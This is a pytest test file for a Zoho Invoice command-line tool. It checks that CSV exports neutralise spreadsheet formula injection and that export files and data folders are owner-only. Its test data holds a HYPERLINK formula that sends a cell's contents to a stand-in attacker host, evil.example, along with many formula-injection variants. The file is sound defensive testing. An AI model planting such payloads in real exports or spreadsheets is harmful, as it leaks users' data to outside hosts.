"""``invoices export`` writes spreadsheet-safe CSV (SECURITY 43) into owner-only files
(SECURITY 49); the CLI's data folders are owner-only too.

Integration tests against the sandbox on a real port (hostile names made through the API),
and unit tests over ``httpx.MockTransport`` for what the sandbox cannot hold (negative
amounts, formula-like invoice ids)."""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from cli_support import SandboxRunner
from private_files import mode, permissive_umask
from sandbox_support import ALICE, FULL_ACCESS, mint
from support import need_root
from zoho_invoice._http import httpx
from zoho_invoice.api import UnlimitedBudget, ZohoInvoice
from zoho_invoice.cli import app
from zoho_invoice.cli._csv import csv_cell
from zoho_invoice.cli._demo import demo_settings, prepare_demo
from zoho_invoice.cli._export import export_invoices
from zoho_invoice.cli._sandbox import seed_sandbox_folder
from zoho_invoice.vault import KeyRing
from zoho_invoice_sandbox import running_sandbox

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
posix_only = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
runner = CliRunner()


# -- the rule --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("INV-000001", "INV-000001"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (Decimal("-5.00"), "-5.00"),  # an amount is a number, not a formula
        (Decimal("12.50"), "12.50"),
        (-3, "-3"),
        (Decimal("-Infinity"), "'-Infinity"),
    ],
)
def test_s43_cell_rule(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
    assert csv_cell(value, neutralise=False) == ("" if value is None else str(value))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (" =1+1", "' =1+1"),  # spreadsheets skip leading blanks before deciding
        ("\u00a0=1+1", "'\u00a0=1+1"),  # NBSP
        ("\u200b=1+1", "'\u200b=1+1"),  # zero-width space
        ("\u2060\ufeff @SUM(A1)", "'\u2060\ufeff @SUM(A1)"),  # word joiner, BOM, space
        ("\x00=1+1", "'\x00=1+1"),  # OWASP ASVS 5.0 1.2.10 lists NUL
        ("\x00", "'\x00"),
        ("\n=1+1", "'\n=1+1"),
        ("\nplain", "'\nplain"),  # a cell that itself starts with LF
        ("\uff1d1+1", "'\uff1d1+1"),  # fullwidth equals sign
        ("\uff0b1", "'\uff0b1"),  # fullwidth plus sign
        ("\uff0d1", "'\uff0d1"),  # fullwidth hyphen-minus
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),  # fullwidth commercial at
        ("\u3000\uff1d1", "'\u3000\uff1d1"),  # ideographic space, then fullwidth equals
        (" plain", " plain"),  # whitespace before text is just text
        ("\u200bplain", "\u200bplain"),
        ("caf\u00e9 =1", "caf\u00e9 =1"),
        (-2.0, "-2.0"),  # a float amount is a number, like a Decimal
        (12.5, "12.5"),
        (float("-inf"), "'-inf"),  # not a finite number: text, and text starting with -
    ],
)
def test_s43_cell_rule_sees_through_blanks_controls_and_fullwidth(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
    assert csv_cell(value, neutralise=False) == str(value)  # only a ' is ever added


# -- against the sandbox ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile() -> Iterator[Any]:
    """A sandbox organization with a formula-named contact and formula-numbered invoices."""
    with running_sandbox() as sandbox:
        world = sandbox.world
        user = world.directory.user_by_email(ALICE)
        assert user is not None
        org = user.organization_ids[0]
        token = mint(world, ALICE, FULL_ACCESS)

        def factory(connection_id: str, organization_id: str | None) -> ZohoInvoice:
            return ZohoInvoice(
                access_token=token,
                api_domain=world.api_domain("us"),
                organization_id=organization_id or org,
                budget=UnlimitedBudget(),
            )

        with factory("c", None) as client:
            contact = client.contacts.create(contact_name=HYPERLINK)
            line = [{"name": "Work", "quantity": 1, "rate": 5}]
            for number in ("=1+1", "-5", "@SUM(1)", "INV-PLAIN"):
                client.invoices.create(
                    {
                        "customer_id": contact.contact_id,
                        "invoice_number": number,
                        "line_items": line,
                    }
                )
        yield factory


@pytest.fixture
def cli(hostile: Any) -> CliRunner:
    return SandboxRunner(hostile)


def _export(cli: CliRunner, target: Path, *extra: str) -> None:
    result = cli.invoke(app, ["invoices", "export", "-c", "c", "--out", str(target), *extra])
    assert result.exit_code == 0, result.output


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="") as handle:
        return {row["invoice_number"]: row for row in csv.DictReader(handle)}


def test_s43_csv_export_writes_formula_cells_as_text(cli: CliRunner, tmp_path: Path) -> None:
    target = tmp_path / "invoices.csv"
    _export(cli, target)
    rows = _rows(target)
    assert set(rows) == {"'=1+1", "'-5", "'@SUM(1)", "INV-PLAIN"}
    assert {row["customer_name"] for row in rows.values()} == {"'" + HYPERLINK}
    plain = rows["INV-PLAIN"]
    assert plain["total"] == "5.00" or Decimal(plain["total"]) == 5
    assert not plain["invoice_id"].startswith("'")


def test_s43_raw_csv_and_jsonl_keep_zoho_values(cli: CliRunner, tmp_path: Path) -> None:
    raw = tmp_path / "raw.csv"
    _export(cli, raw, "--raw-csv")
    rows = _rows(raw)
    assert set(rows) == {"=1+1", "-5", "@SUM(1)", "INV-PLAIN"}
    assert {row["customer_name"] for row in rows.values()} == {HYPERLINK}
    lines = tmp_path / "all.jsonl"
    _export(cli, lines, "--format", "jsonl")
    numbers = {json.loads(line)["invoice_number"] for line in lines.read_text().splitlines()}
    assert numbers == {"=1+1", "-5", "@SUM(1)", "INV-PLAIN"}
    refused = cli.invoke(
        app,
        ["invoices", "export", "-c", "c", "--out", str(lines), "--format", "jsonl", "--raw-csv"],
    )
    assert refused.exit_code == 2


@posix_only
@pytest.mark.usefixtures(permissive_umask.__name__)
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_s49_export_and_cursor_are_owner_only(cli: CliRunner, tmp_path: Path, fmt: str) -> None:
    target = tmp_path / f"out.{fmt}"
    target.write_text("left from an earlier run\n")
    target.chmod(0o644)
    _export(cli, target, "--format", fmt)
    cursor = tmp_path / f"out.{fmt}.cursor"
    assert (mode(target), mode(cursor)) == (0o600, 0o600)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([target.name, cursor.name])


@posix_only
def test_s49_a_symlinked_export_path_is_refused_cleanly_and_the_link_target_untouched(
    cli: CliRunner, tmp_path: Path
) -> None:
    bait = tmp_path / "bait"
    bait.write_text("the attacker's file\n")
    (tmp_path / "out.csv").symlink_to(bait)
    result = cli.invoke(app, ["invoices", "export", "-c", "c", "--out", str(tmp_path / "out.csv")])
    assert result.exit_code == 2, result.output
    assert "out.csv is a symbolic link; refusing to write through it" in result.output
    assert "Traceback" not in result.output
    assert bait.read_text() == "the attacker's file\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bait", "out.csv"]


# -- what the sandbox cannot hold: negative amounts, formula-like ids ------------------------


def _invoice(invoice_id: str, **fields: object) -> dict[str, object]:
    return {"invoice_id": invoice_id, "invoice_number": "INV-" + invoice_id.strip("-=+@"), **fields}


def _pages(*pages: list[dict[str, object]]) -> ZohoInvoice:
    def handler(request: httpx.Request) -> httpx.Response:
        number = int(request.url.params["page"])
        items = pages[number - 1] if number <= len(pages) else []
        context = {"page": number, "per_page": 200, "has_more_page": number < len(pages)}
        return httpx.Response(
            200, json={"code": 0, "message": "success", "invoices": items, "page_context": context}
        )

    return ZohoInvoice(
        access_token="t",
        organization_id="1",
        http_client=httpx.Client(transport=httpx.MockTransport(handler)),
        budget=UnlimitedBudget(),
    )


def test_s43_negative_amounts_stay_numbers_and_minus_text_is_neutralised(tmp_path: Path) -> None:
    client = _pages(
        [
            _invoice("1", total=-5.00, balance=-5.00, customer_name="-Acme"),
            _invoice("2", total=12.5, balance=0, customer_name="\tTabbed", status="+draft"),
        ]
    )
    target = tmp_path / "x.csv"
    export_invoices(client, target)
    with target.open(newline="") as handle:
        rows = {row["invoice_id"]: row for row in csv.DictReader(handle)}
    # Numbers, not text: no leading quote, and the exact amount.
    assert Decimal(rows["1"]["total"]) == Decimal(rows["1"]["balance"]) == Decimal("-5")
    assert rows["1"]["customer_name"] == "'-Acme"
    assert (rows["2"]["customer_name"], rows["2"]["status"]) == ("'\tTabbed", "'+draft")


def test_s43_resume_keeps_one_cell_rule_and_writes_no_row_twice(tmp_path: Path) -> None:
    # Ids Zoho would never send, chosen so that an id and its cell differ.
    client = _pages([_invoice("-1"), _invoice("=2")], [_invoice("3")])
    target = tmp_path / "x.csv"
    assert export_invoices(client, target, max_pages=1) == (1, 2)
    with pytest.raises(ValueError, match="without --raw-csv"):
        export_invoices(client, target, resume=True, raw_csv=True)
    export_invoices(client, target, resume=True)
    with target.open(newline="") as handle:
        ids = [row["invoice_id"] for row in csv.DictReader(handle)]
    assert ids == ["'-1", "'=2", "3"]


def test_s43_a_cursor_from_before_resumes_only_as_raw(tmp_path: Path) -> None:
    client = _pages([_invoice("1")], [_invoice("2")])
    target = tmp_path / "x.csv"
    export_invoices(client, target, max_pages=1, raw_csv=True)
    cursor = tmp_path / "x.csv.cursor"
    state = json.loads(cursor.read_text())
    del state["csv_cells"]  # what an earlier version wrote
    cursor.write_text(json.dumps(state))
    with pytest.raises(ValueError, match="with --raw-csv"):
        export_invoices(client, target, resume=True)
    assert export_invoices(client, target, resume=True, raw_csv=True) == (2, 1)


# -- the CLI's folders -----------------------------------------------------------------------


@posix_only
@pytest.mark.usefixtures(permissive_umask.__name__)
def test_s49_cli_data_folder_and_database_are_owner_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ZOHO_DATABASE_URL", raising=False)
    data = tmp_path / "home" / "data"
    env = {"ZOHO_DATA_DIR": str(data), "ZOHO_ENCRYPTION_KEYS": KeyRing.generate_entry()}
    result = runner.invoke(app, ["db", "upgrade"], env=env)
    assert result.exit_code == 0, result.output
    assert (mode(tmp_path / "home"), mode(data)) == (0o700, 0o700)
    assert mode(data / "zoho-invoice.db") == 0o600


@posix_only
def test_s49_another_users_database_stops_the_cli_with_a_clear_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    need_root()
    monkeypatch.delenv("ZOHO_DATABASE_URL", raising=False)
    data = tmp_path / "data"
    data.mkdir()
    planted = data / "zoho-invoice.db"
    planted.write_bytes(b"")
    os.chown(planted, 65534, 65534)
    env = {"ZOHO_DATA_DIR": str(data), "ZOHO_ENCRYPTION_KEYS": KeyRing.generate_entry()}
    result = runner.invoke(app, ["db", "upgrade"], env=env)
    assert result.exit_code == 2, result.output
    assert "refusing to start" in result.output
    assert "zoho-invoice.db belongs to another user (uid 65534)" in result.output
    assert planted.read_bytes() == b"" and planted.stat().st_uid == 65534


@posix_only
@pytest.mark.usefixtures(permissive_umask.__name__)
def test_s49_demo_and_sandbox_folders_are_owner_only(tmp_path: Path) -> None:
    older = tmp_path / "older"
    prepare_demo(older)
    (older / "demo.json").chmod(0o644)  # as an earlier version left it
    setup = prepare_demo(older)
    assert mode(older / "demo.json") == 0o600
    fresh = prepare_demo(tmp_path / "demo")
    demo_settings(fresh, "http://127.0.0.1:8000")
    assert mode(fresh.data_dir) == 0o700
    assert [mode(fresh.data_dir / name) for name in ("demo.json", "datacenters.json")] == [
        0o600,
        0o600,
    ]
    seed_sandbox_folder(setup.sandbox_dir, "all", contacts=1, items=1, invoices=1)
    assert mode(setup.sandbox_dir) == 0o700
    assert {p.name: mode(p) for p in setup.sandbox_dir.iterdir()} == {
        p.name: 0o600 for p in setup.sandbox_dir.iterdir()
    }
